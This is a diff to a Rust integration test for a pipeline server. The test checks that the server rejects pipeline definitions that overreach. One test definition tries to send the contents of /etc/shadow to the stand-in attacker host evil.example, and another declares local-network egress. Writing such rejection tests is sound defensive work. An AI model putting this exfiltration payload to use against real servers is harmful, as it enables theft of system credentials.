@@ -62,5 +62,13 @@ async fn a_pipeline_with_errors_names_each_of_them_and_one_that_starts_programs_
     let refused = owner.send("PUT", "/v1/pipelines/asked", &[], Some(program)).await;
     assert_eq!((refused.status, refused.code()), (422, "definition".to_owned()));
     assert!(refused.text.contains("app.yaml"), "{refused:?}");
+    // Nor does it make requests of the server, with secrets of the server.
+    let secret = "selvedge: 1\nname: asked\negress: [evil.example]\nactivities:\n  tell: { http: { url: \"https://evil.example\", headers: { x: { secret: \"file:/etc/shadow\" } } } }\nstages:\n  - { name: a, call: tell }\n";
+    let reach = "selvedge: 1\nname: asked\negress: [127.0.0.1]\nstages:\n  - { name: a, mode: sleep, for: 1s }\n";
+    for (own, says) in [(secret, "a request of this machine"), (reach, "`egress` is not taken over HTTP")] {
+        let refused = owner.send("PUT", "/v1/pipelines/asked", &[], Some(own)).await;
+        assert_eq!((refused.status, refused.code()), (422, "definition".to_owned()));
+        assert!(refused.text.contains(says) && refused.text.contains("app.yaml"), "{refused:?}");
+    }
     assert_eq!(owner.get("/v1/pipelines").await.json(), json!([]));
 }
